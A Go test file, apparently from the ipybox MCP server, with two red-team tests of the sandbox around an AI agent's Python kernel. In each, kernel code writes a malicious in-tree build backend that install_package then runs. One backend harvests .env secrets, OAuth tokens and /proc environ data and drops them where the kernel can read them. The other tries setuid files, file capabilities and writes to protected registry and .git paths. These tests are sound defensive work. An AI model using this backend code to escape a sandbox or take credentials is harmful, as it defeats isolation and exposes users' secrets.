package mcpserver

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ipybox/ipybox"
	"github.com/ipybox/ipybox/internal/testenv"
)

// TestRedteamInstallHelperSecrets: install_package of a local project runs
// the project's build backend in pip's helper sandbox. Kernel code writes
// such a project (an in-tree PEP 517 backend, so that no download is
// needed) whose backend reads what the kernel cannot (the workspace's
// .env, the server registry, the OAuth tokens, the host's environment) and
// leaves it where the kernel can read it (the shared virtualenv, the
// workspace). The application approves "install ./evilpkg". Stopped when
// the helper is masked as the kernel is; it fails if a secret reaches the
// kernel.
func TestRedteamInstallHelperSecrets(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	const secret = "sk-redteam-7777777777"
	os.WriteFile(filepath.Join(ws, ".env"), []byte("API_KEY="+secret+"\n"), 0o600)
	os.MkdirAll(filepath.Join(ws, "sub"), 0o755)
	os.WriteFile(filepath.Join(ws, "sub", ".env.local"), []byte("API_KEY="+secret+"\n"), 0o600)
	srv := newServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
	cs := connect(t, srv, nil)
	run(t, cs, `import os
os.makedirs("evilpkg", exist_ok=True)
open("evilpkg/pyproject.toml", "w").write('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "evilpkg"\nversion = "0.1"\n')
open("evilpkg/backend.py", "w").write('''
import os, sys, glob
WS = `+pyQuote(ws)+`
def _leak():
    out = []
    for p in [WS + "/.env", WS + "/sub/.env.local", WS + "/.ipybox/servers.json",
              os.path.expanduser("~/.config/ipybox/oauth-tokens.json"), "/proc/1/environ", "/proc/self/environ"]:
        try:
            out.append(p + "=" + open(p, errors="replace").read()[:300])
        except Exception as e:
            out.append(p + "!" + type(e).__name__)
    out.append("home=" + repr(os.listdir(os.path.expanduser("~")) if os.path.isdir(os.path.expanduser("~")) else None))
    text = "\\n".join(out)
    for d in [WS, WS + "/.ipybox/venv", WS + "/.ipybox", "/tmp"] + glob.glob(WS + "/.ipybox/venv/lib/python3*/site-packages"):
        try:
            open(os.path.join(d, "leak.txt"), "w").write(text)
        except Exception:
            pass
    return text
def get_requires_for_build_wheel(config_settings=None):
    _leak(); return []
def prepare_metadata_for_build_wheel(d, config_settings=None):
    raise RuntimeError("LEAK " + _leak())
def build_wheel(d, config_settings=None, metadata_directory=None):
    raise RuntimeError("LEAK " + _leak())
''')`)
	res := call(t, cs, "install_package", map[string]any{"package_name": "./evilpkg"})
	out := text(res)
	t.Logf("install_package: %s", short(out))
	got := run(t, cs, `import glob
for p in glob.glob("leak.txt") + glob.glob(".ipybox/venv/leak.txt") + glob.glob(".ipybox/venv/lib/python3*/site-packages/leak.txt"):
    print(p, open(p).read())`)
	t.Logf("kernel sees: %s", got)
	if strings.Contains(got, secret) {
		t.Errorf("the pip helper read a masked secret and left it where the kernel reads it: %s", got)
	}
	if strings.Contains(out, secret) {
		t.Errorf("install_package's result (shown to the agent) carries a masked secret: %s", short(out))
	}
}

// TestRedteamInstallHelperWrites: the same kernel-written build backend,
// in pip's helper (the one process that may write the shared virtualenv),
// tries to leave a setuid file or file capabilities in the virtualenv, and
// to write what the kernel may not: mcptools/, the registry, a .git (also
// through a "... (deleted)" folder). It fails if any of that lands.
func TestRedteamInstallHelperWrites(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	srv := newServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
	cs := connect(t, srv, nil)
	run(t, cs, `import os
os.makedirs("evilpkg", exist_ok=True)
open("evilpkg/pyproject.toml", "w").write('[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n[project]\nname = "evilpkg"\nversion = "0.1"\n')
open("evilpkg/backend.py", "w").write('''
import os, glob, struct, shutil, sys
WS = `+pyQuote(ws)+`
def _try(name, fn, out):
    try:
        fn(); out.append(name + ":ok")
    except Exception as e:
        out.append(name + ":" + type(e).__name__)
def _go():
    out = []
    venv = WS + "/.ipybox/venv"
    f = venv + "/suid"
    _try("write venv", lambda: open(f, "w").write("x"), out)
    _try("chmod 4755", lambda: os.chmod(f, 0o4755), out)
    _try("caps", lambda: os.setxattr(f, "security.capability", struct.pack("<IIIII", 0x02000001, 0xc0, 0, 0, 0)), out)
    _try("mcptools", lambda: (os.makedirs(WS + "/mcptools/x", exist_ok=True), open(WS + "/mcptools/x/__init__.py", "w").write("")), out)
    _try("servers.json", lambda: open(WS + "/.ipybox/servers.json", "w").write("{}"), out)
    _try("ws .git", lambda: os.mkdir(WS + "/h/.git") if os.path.isdir(WS + "/h") or os.mkdir(WS + "/h") is None else None, out)
    _try("deleted .git", lambda: (os.mkdir(WS + "/y (deleted)"), os.mkdir(WS + "/y (deleted)/.git")), out)
    _try("venv deleted .git", lambda: (os.mkdir(venv + "/y (deleted)"), os.mkdir(venv + "/y (deleted)/.git")), out)
    return " ".join(out)
def get_requires_for_build_wheel(config_settings=None):
    raise RuntimeError("RESULT " + _go())
''')`)
	out := text(call(t, cs, "install_package", map[string]any{"package_name": "./evilpkg"}))
	t.Logf("install_package: %s", short(out[max(0, strings.LastIndex(out, "RESULT")):]))
	check := map[string]string{
		".ipybox/venv/suid":             "",
		"mcptools/x/__init__.py":        "",
		"h/.git":                        "",
		"y (deleted)/.git":              "",
		".ipybox/venv/y (deleted)/.git": "",
	}
	for rel := range check {
		fi, err := os.Lstat(filepath.Join(ws, rel))
		if err != nil {
			continue
		}
		switch {
		case rel == ".ipybox/venv/suid":
			if fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
				t.Errorf("the pip helper left a setuid file: %v", fi.Mode())
			}
		default:
			t.Errorf("the pip helper made %s", rel)
		}
	}
}
